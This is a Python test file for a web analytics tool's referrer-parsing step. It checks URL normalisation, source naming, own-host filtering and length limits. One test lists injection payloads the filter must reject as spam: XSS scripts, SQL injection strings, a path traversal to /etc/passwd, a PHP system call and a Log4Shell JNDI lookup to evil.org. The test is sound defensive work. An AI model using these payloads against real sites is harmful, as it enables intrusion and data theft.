"""Where the visitor came from (`rules.md` 1.5), and what is dropped for it (1.4)."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hoofprint.ingest.steps.referrer import LONGEST, STEP, own_hosts, parse_referrer
from hoofprint.ingest.text import REFERRER
from hoofprint.model.domain import Domain
from hoofprint.model.reasons import DropReason

from .sample import ANY_TEXT, asked, done, reason

NOTHING = ("", "")
HEADER = "https://header.org/"


def came_from(
    header: str | None, query: dict[str, str] | None = None, hostname: str = "example.com"
) -> tuple[str, str]:
    found = done(STEP, asked(referrer=header), hostname=hostname, query=query or {})
    return found["referrer"], found["referrer_name"]


def why_dropped(
    header: str | None, query: dict[str, str] | None = None, **fields: Any
) -> DropReason | None:
    request = asked(referrer=header, **fields)
    return reason(STEP, request, hostname="example.com", query=query or {})


@pytest.mark.parametrize(
    ("header", "url", "name"),
    [
        ("https://blog.org", "https://blog.org", "blog.org"),
        ("https://blog.org/", "https://blog.org", "blog.org"),
        ("http://blog.org/", "http://blog.org", "blog.org"),
        ("https://blog.org/post/", "https://blog.org/post/", "blog.org"),
        ("https://blog.org/Post?a=b#c", "https://blog.org/Post", "blog.org"),
        ("https://blog.org/?a=b", "https://blog.org", "blog.org"),
        ("https://www.blog.org/a", "https://www.blog.org/a", "blog.org"),
        ("HTTPS://Blog.ORG/A", "https://blog.org/A", "blog.org"),
        ("https://user:secret@blog.org/", "https://blog.org", "blog.org"),
        ("https://blog.org:8443/a", "https://blog.org:8443/a", "blog.org"),
        ("https://blog.org:443/a", "https://blog.org/a", "blog.org"),
        ("https://blog.org/a%2Fb%3Fc%20d", "https://blog.org/a%2Fb%3Fc%20d", "blog.org"),
        ("  https://blog.org/a  ", "https://blog.org/a", "blog.org"),
        ("https://www.google.com/", "https://www.google.com", "Google"),
        ("https://www.google.co.uk/search?q=x", "https://www.google.co.uk/search", "Google"),
        ("https://t.co/abc", "https://t.co/abc", "Twitter"),
        ("https://x.com/a/status/1", "https://x.com/a/status/1", "X"),
        ("https://l.facebook.com/l.php?u=x", "https://l.facebook.com/l.php", "Facebook"),
        ("http://m.facebook.com/", "http://m.facebook.com", "Facebook"),
        ("http://news.ycombinator.com/a?id=1", "http://news.ycombinator.com/a", "Hacker News"),
        ("https://chatgpt.com/", "https://chatgpt.com", "ChatGPT"),
    ],
)
def test_a_url_loses_query_and_fragment_and_keeps_scheme_and_path(
    header: str, url: str, name: str
) -> None:
    """`/` becomes empty, other paths keep their trailing slash."""
    assert came_from(header) == (url, name)


@pytest.mark.parametrize(
    ("text", "url", "name"),
    [
        ("blog.org", "https://blog.org", "blog.org"),
        ("Blog.org/Post?x=y", "https://blog.org/Post", "blog.org"),
        ("blog.org:8080/a", "https://blog.org:8080/a", "blog.org"),
        ("www.google.de", "https://www.google.de", "Google"),
        ("chatgpt.com", "https://chatgpt.com", "ChatGPT"),
    ],
)
def test_what_looks_like_a_hostname_is_parsed(text: str, url: str, name: str) -> None:
    assert came_from(None, {"ref": text}) == (url, name)


@pytest.mark.parametrize(
    "text", ["Newsletter", "Spring 2026", "v1.2", "a.b c", "e.g.", "ü", "mailto:ann@blog.org", "-"]
)
def test_anything_else_is_a_plain_name(text: str) -> None:
    assert came_from(text) == ("", text)
    assert came_from(None, {"ref": f"  {text} "}) == ("", text)


@pytest.mark.parametrize(
    ("header", "name"),
    [
        ("android-app://com.google.android.gm/", "Gmail"),
        ("android-app://com.google.android.googlequicksearchbox/https/www.google.com", "Google"),
        ("android-app://org.example.reader", "org.example.reader"),
    ],
)
def test_an_android_app_is_kept_and_named_after_the_app(header: str, name: str) -> None:
    assert came_from(header) == (header, name)


NO_HOSTS = (
    "https://1.2.3.4/a http://1.2.3.4:8080/ https://[2001:db8::1]/a http://2130706433/ 1.2.3.4"
    " 1.2.3.4:80/a [2001:db8::1]/a 2001:db8::1 https:// http://[x android-app://"
)


@pytest.mark.parametrize("header", [*NO_HOSTS.split(), "", "   ", None])
def test_an_address_as_a_host_is_no_referrer_and_is_not_stored(header: str | None) -> None:
    """Neither is what holds no host at all."""
    assert came_from(header) == NOTHING


@pytest.mark.parametrize(
    "header",
    [
        "https://example.com/other",
        "https://www.example.com/",
        "https://EXAMPLE.com:8080/",
        "example.com",
        "https://shop.example.org/",
        "https://www.shop.example.org/",
        "https://a.example.net/",
        "https://a.b.example.net/",
        "https://www.example.net/",
    ],
)
def test_the_own_hostname_and_alternative_ones_are_no_referrer(header: str) -> None:
    assert came_from(header) == NOTHING
    assert came_from(header, hostname="www.example.com") == NOTHING


def test_the_visited_hostname_is_no_referrer_though_the_domain_does_not_know_it() -> None:
    assert came_from("https://www.other.org/a", hostname="other.org") == NOTHING
    assert came_from("https://other.org/a", hostname="www.other.org") == NOTHING
    international = "xn--mnchen-3ya.de"
    assert came_from("https://münchen.de/a", hostname=international) == NOTHING


@pytest.mark.parametrize(
    "host",
    ["example.org", "example.net", "notexample.com", "example.com.evil.org", "a.example.com"],
)
def test_a_host_that_only_resembles_an_own_one_is_a_referrer(host: str) -> None:
    assert came_from(f"https://{host}/") == (f"https://{host}", host)


def test_a_pattern_with_many_wildcards_takes_no_time() -> None:
    own = own_hosts(Domain("d", "example.com", hostnames=("*a" * 30 + "b",)))
    assert own.fullmatch("a" * 253) is None
    assert own.fullmatch("a" * 253 + "b")


@pytest.mark.parametrize("name", ["ref", "referer", "referrer"])
def test_ref_and_its_like_beat_the_header(name: str) -> None:
    assert came_from(HEADER, {name: "Flyer", "utm_source": "s"}) == ("", "Flyer")


@pytest.mark.parametrize("name", ["source", "utm_source"])
def test_source_and_utm_source_count_only_without_a_header(name: str) -> None:
    assert came_from(None, {name: "Flyer"}) == ("", "Flyer")
    assert came_from("  ", {name: "Flyer"}) == ("", "Flyer")
    assert came_from(HEADER, {name: "Flyer"}) == ("https://header.org", "header.org")


def test_an_empty_or_own_parameter_gives_way_as_the_header_would() -> None:
    assert came_from(HEADER, {"ref": ""}) == ("https://header.org", "header.org")
    assert came_from(HEADER, {"ref": "example.com"}) == NOTHING


@pytest.mark.parametrize(
    ("header", "url", "name"),
    [
        (f"https://blog.org/{'a' * 300}", f"https://blog.org/{'a' * 300}"[:200], "blog.org"),
        ("Ä" * 300, "", "Ä" * 200),
        (f"https://{'a.' * 110}org/", f"https://{'a.' * 96}", "a." * 100),
        (f"android-app://{'a' * 300}", f"android-app://{'a' * 186}", "a" * 200),
    ],
)
def test_url_and_name_are_cut_to_200_characters(header: str, url: str, name: str) -> None:
    assert came_from(header) == (url, name)


@pytest.mark.parametrize(
    "header",
    [
        "https://semalt.com/",
        "http://www.semalt.com/crawler.php?u=https://example.com",
        "https://deep.sub.semalt.com/",
        "semalt.com",
        "https://static.seders.website/",
        "<script>alert(1)</script>",
        "https://blog.org/?q=<ScRiPt src=x>",
        "https://blog.org/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "javascript:alert(1)",
        "' OR 1=1 --",
        "https://blog.org/?id=1%27%20or%20%271%27=%271",
        "https://blog.org/?id=1 UNION SELECT password",
        "https://blog.org/?id=1+union+all+select+1,2",
        "https://blog.org/?id=(select * from users )",
        "1;WAITFOR DELAY '0:0:5'",
        "https://blog.org/?id=1 and sleep(5)",
        "https://blog.org/../../etc/passwd",
        "${jndi:ldap://evil.org/a}",
        "<?php system('id');",
        '"><img src=x onerror=alert(1)>',
    ],
)
def test_a_spammers_domain_and_injection_text_drop_the_request(header: str) -> None:
    assert why_dropped(header) is DropReason.REFERRER_SPAM
    assert why_dropped(None, {"ref": header}) is DropReason.REFERRER_SPAM
    assert why_dropped(header, disable_bot_filter=True) is None


@pytest.mark.parametrize(
    "header",
    [
        "https://notsemalt.com/",
        "https://semalt.com.blog.org/",
        "https://blog.org/how-to-select-a-laptop-from-the-shop",
        "https://blog.org/union-select-committee",
        "https://blog.org/?onerror=https://blog.org/login",
        "https://blog.org/scripts/sleep",
        "https://blog.org/o'reilly-and-sons",
        "https://www.google.com/search?q=sql+select+statement",
        "Women's Day and more",
    ],
)
def test_a_harmless_referrer_does_not(header: str) -> None:
    assert why_dropped(header) is None


def test_only_the_beginning_of_a_referrer_without_end_is_looked_at() -> None:
    assert why_dropped("https://blog.org/?".ljust(LONGEST, "a") + "<script>") is None
    assert came_from("select a, " * 100_000)[1].startswith("select a, select")


@given(
    st.from_regex(r"https?://[a-z]{1,9}\.[a-z]{2,5}(:[0-9]{1,4})?(/[ -~]{0,40})?", fullmatch=True)
)
def test_a_stored_referrer_stays_what_it_is_when_it_is_read_again(text: str) -> None:
    once = parse_referrer(text)
    assert parse_referrer(once.url) == once


@given(
    ANY_TEXT
    | ANY_TEXT.map("https://blog.org/".__add__)
    | ANY_TEXT.map("https://".__add__)
    | ANY_TEXT.map("android-app://".__add__)
)
@example("https://blog.org/\ud800")
def test_no_text_is_too_strange_for_a_referrer(text: str) -> None:
    request = asked(referrer=text, disable_bot_filter=True)
    found = done(STEP, request, hostname="example.com", query={})
    assert max(len(found["referrer"]), len(found["referrer_name"])) <= REFERRER
    assert not found["referrer"] or found["referrer_name"]
